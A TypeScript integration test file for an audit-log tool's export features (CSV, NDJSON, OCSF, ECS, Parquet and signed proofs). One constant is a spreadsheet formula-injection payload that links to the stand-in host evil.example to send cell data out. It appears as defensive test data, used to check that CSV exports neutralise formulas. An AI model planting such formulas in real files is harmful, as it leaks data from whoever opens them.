/** Exports as people meet them: a real server, the command line, and what other programs make of the files. */
import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { mkdtemp, readdir, readFile, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, test } from "node:test";
import { setTimeout as delay } from "node:timers/promises";
import { parquetReadObjects } from "hyparquet";
import { exchange } from "../cli/src/exchange.ts";
import { runProgram } from "../cli/src/program.ts";
import { createTestIo } from "./support/cli-io.ts";
import { searchable } from "./support/searchable.ts";
import { type StartedServer, startServerProcess } from "./support/server-process.ts";

const SENT = 2500;
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1)';

let folder = "";
let server: StartedServer;
let sealed: readonly { readonly id: string; readonly leafHash: string }[] = [];
before(async () => {
  folder = await mkdtemp(join(tmpdir(), "tally-export-"));
  server = await startServerProcess({ dataFolder: join(folder, "data") });
  const events = Array.from({ length: SENT }, (_, i) => ({
    ...{ actor: { name: i === 0 ? FORMULA : `user${i % 7}` }, action: "role.grant", target: `t${i}` },
    ...{ time: new Date(Date.UTC(2026, 0, 1) + i * 1000).toISOString(), from: "192.0.2.1" },
  }));
  const headers = { authorization: `Bearer ${server.tokens.ingest}` };
  const sent = await fetch(`${server.url}/api/v1/events`, {
    method: "POST",
    headers,
    body: JSON.stringify(events),
  });
  const text = await sent.text();
  assert.equal(sent.status, 202, text);
  sealed = JSON.parse(text).events;
  await searchable(server);
});
after(async () => {
  await server.stop();
  await rm(folder, { recursive: true });
});

test("tally export writes what tally search finds, and both hash the same", async () => {
  const { out, path } = await exportAs("ndjson", "action:role.grant");
  const bytes = await readFile(path);
  assert.equal(out, `${createHash("sha256").update(bytes).digest("hex")}  ${path}\n`);
  const searched = await tally(["search", "action:role.grant", "--all", "--order", "asc", "-o", "ndjson"]);
  assert.deepEqual(jsonLines(bytes.toString()), jsonLines(searched.out));
  assert.equal(jsonLines(bytes.toString()).length, SENT);
});

test("tally export writes CSV in which no cell is a formula", async () => {
  const { path } = await exportAs("csv", "action:role.grant");
  const text = await readFile(path, "utf8");
  assert.ok(text.includes(`"'${FORMULA.replaceAll('"', '""')}"`));
  assert.doesNotMatch(text, /(?:^|,)"?=/m);
});

test("tally export writes OCSF that has a class, a type and a time for every event", async () => {
  const { path } = await exportAs("ocsf", "action:role.grant");
  const events = jsonLines(await readFile(path, "utf8"));
  assert.equal(events.length, SENT);
  for (const event of events)
    assert.deepEqual([field(event, "class_uid"), field(event, "type_uid")], [3005, 300_501]);
  assert.equal(field(events[0], "time"), Date.UTC(2026, 0, 1));
});

test("tally export writes ECS, and each of its lines and those of OCSF has the leaf hash that the log has", async () => {
  const ecs = jsonLines(await readFile((await exportAs("ecs", "action:role.grant")).path, "utf8"));
  const ocsf = jsonLines(await readFile((await exportAs("ocsf", "action:role.grant")).path, "utf8"));
  assert.equal(ecs.length, SENT);
  const byId = new Map(sealed.map(({ id, leafHash }) => [id, leafHash]));
  for (const [i, view] of ecs.entries()) {
    const of = field(view, "event");
    assert.deepEqual([field(of, "kind"), field(of, "category")], ["event", ["iam"]]);
    const hash = byId.get(String(field(of, "id")));
    assert.equal(Buffer.from(hash ?? "", "base64").toString("hex"), field(of, "hash"));
    const attested = field(ocsf[i], "attestation_list");
    const [attestation] = Array.isArray(attested) ? attested : [];
    assert.equal(field(field(attestation, "fingerprint"), "value"), field(of, "hash"));
  }
});

test("tally get --view shows what a record holds in OCSF and ECS", async () => {
  const id = sealed[3]?.id ?? "";
  const [ocsf, ecs] = await Promise.all([
    tally(["get", id, "--view", "ocsf"]),
    tally(["get", id, "--view", "ecs"]),
  ]);
  assert.equal(field(JSON.parse(ocsf.out), "class_uid"), 3005);
  assert.equal(field(field(JSON.parse(ecs.out), "user"), "name"), "user3");
});

test("tally export writes Parquet that a reader finds all rows in", async () => {
  const { path } = await exportAs("parquet", "action:role.grant");
  const rows = await parquetReadObjects({ file: new Uint8Array(await readFile(path)).buffer });
  assert.equal(rows.length, SENT);
  assert.deepEqual([rows[1]?.["actor"], rows[1]?.["time"]], ["user1", new Date(Date.UTC(2026, 0, 1) + 1000)]);
});

test("tally export --format proof writes what tally verify finds in order, with the log's key and no server", async () => {
  const { path } = await exportAs("proof", "action:role.grant");
  const vkey = (await (await fetch(`${server.url}/logs/main/vkey`)).text()).trim();
  const { code, out } = await tally(["verify", path, "--vkey", vkey], false);
  assert.equal(code, 0, out);
  assert.match(out, new RegExp(`^OK: ${SENT} entries are of the log `));
});

test("exports leave sealed events behind, and no files on the server once they are fetched", async () => {
  await exportAs("csv", "action:role.revoke");
  await searchable(server);
  const { out } = await tally(["search", "action:events.*", "--all", "-o", "ndjson"]);
  const actions = jsonLines(out).map((event) => field(event, "action"));
  assert.ok(actions.includes("events.export"));
  assert.ok(actions.includes("events.download"));
  assert.deepEqual(await readdir(join(folder, "data", "state", "exports")), []);
});

test("after a kill an export that ran is told to have failed, and its file is gone", async () => {
  const headers = { authorization: `Bearer ${server.tokens.read}` };
  const body = JSON.stringify({ format: "proof" });
  const begun = await fetch(`${server.url}/api/v1/exports`, { method: "POST", headers, body });
  const id = String(field(await begun.json(), "id"));
  await server.kill();
  server = await startServerProcess({ dataFolder: join(folder, "data") });
  const found: unknown = await (await fetch(`${server.url}/api/v1/exports/${id}`, { headers })).json();
  assert.deepEqual(
    [field(found, "state"), field(found, "error")],
    ["failed", "the server was stopped before it was done; start it again"],
  );
  assert.equal((await fetch(`${server.url}/api/v1/exports/${id}/file`, { headers })).status, 409);
  assert.deepEqual(await readdir(join(folder, "data", "state", "exports")), [`${id}.json`]);
});

async function exportAs(format: string, query: string): Promise<{ out: string; path: string }> {
  const path = join(folder, `file.${format}`);
  const { code, err, out } = await tally(["export", query, "--format", format, "-o", path]);
  assert.equal(code, 0, err);
  return { out, path };
}

async function tally(
  args: readonly string[],
  asks = true,
): Promise<{ code: number | undefined; out: string; err: string }> {
  let code: number | undefined;
  const setExitCode = (value: number): void => {
    code = value;
  };
  const sleep = async (milliseconds: number): Promise<void> => void (await delay(milliseconds));
  const { err, io, out } = createTestIo({ exchange, setExitCode, sleep });
  const target = asks ? ["--url", server.url, "--token", server.tokens.read] : [];
  await runProgram([...args, ...target], io);
  return { code, out: out(), err: err() };
}

function jsonLines(text: string): readonly unknown[] {
  return text === ""
    ? []
    : text
        .trimEnd()
        .split("\n")
        .map((line): unknown => JSON.parse(line));
}

function field(value: unknown, name: string): unknown {
  return typeof value === "object" && value !== null
    ? Object.getOwnPropertyDescriptor(value, name)?.value
    : undefined;
}
